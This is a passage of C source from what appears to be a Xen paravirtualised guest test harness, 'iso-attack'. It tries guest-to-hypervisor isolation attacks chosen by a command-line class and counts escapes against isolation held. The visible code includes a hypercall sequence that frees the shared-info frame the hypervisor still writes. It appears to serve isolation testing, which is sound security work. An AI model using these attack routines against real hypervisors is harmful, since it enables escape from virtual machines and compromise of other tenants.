        mc[1].op = __HYPERVISOR_memory_op;
        mc[1].args[0] = XENMEM_decrease_reservation;
        mc[1].args[1] = (uint32_t)&res;
        HYPERVISOR_multicall(mc, 2);
        if (mc[1].result == 1) {
            report_escape("give back the shared-info frame", "memory_op freed frame 0x%x, which "
                          "the hypervisor still writes", sh_mfn);
            kprintf("iso-attack: %d escapes, %d held\n", escapes, held);
            struct sched_shutdown s = { .reason = SHUTDOWN_poweroff };
            HYPERVISOR_sched_op(SCHEDOP_shutdown, &s);   /* our events are gone */
        }
        uva(sh_va, (sh_mfn << 12) | PTE_P | PTE_RW, UVMF_INVLPG);
        mmu_update1((smfn << 12) | MMU_MACHPHYS_UPDATE, spfn);  /* our page back */
        pv_ops.irq_enable();
    }
    page_free(spare);
    start_info = si_page;
}

/* ==== the task ============================================================= */

/* The value of "key=..." on the command line, into out. */
static int cmdline_word(const char *key, char *out, uint32_t size)
{
    const char *s = cmdline_value(key);
    if (!s)
        return 0;
    uint32_t i = 0;
    for (; *s && *s != ' ' && i + 1 < size; s++)
        out[i++] = *s;
    out[i] = 0;
    return 1;
}

int iso_attack_main(void)
{
    if (!need_pv("iso-attack"))
        return 0;
    char cls[16];
    if (!cmdline_word("attack", cls, sizeof cls)) {
        kprintf("iso-attack: say attack=<class> (ldt hvframe segreload vm86-trap vm86-cli "
                "work fpu tlb global)\n");
        return 1;
    }
    kprintf("iso-attack: class %s\n", cls);
    wait_for_victim("iso-attack");
    if (strcmp(cls, "ldt") == 0)
        attack_ldt();
    else if (strcmp(cls, "hvframe") == 0)
        attack_hvframe();
    else if (strcmp(cls, "segreload") == 0)
        attack_segreload();
    else if (strcmp(cls, "vm86-trap") == 0)
        attack_vm86(0);
    else if (strcmp(cls, "vm86-cli") == 0)
        attack_vm86(1);
    else if (strcmp(cls, "work") == 0)
        attack_work();
    else if (strcmp(cls, "fpu") == 0)
        attack_fpu();
    else if (strcmp(cls, "tlb") == 0)
        attack_tlb();
    else if (strcmp(cls, "global") == 0)
        attack_global();
    else {
        kprintf("iso-attack: unknown class %s\n", cls);
        return 1;
    }
    kprintf("iso-attack: %s: %d escapes, %d held\n", cls, escapes, held);
    return escapes;
}
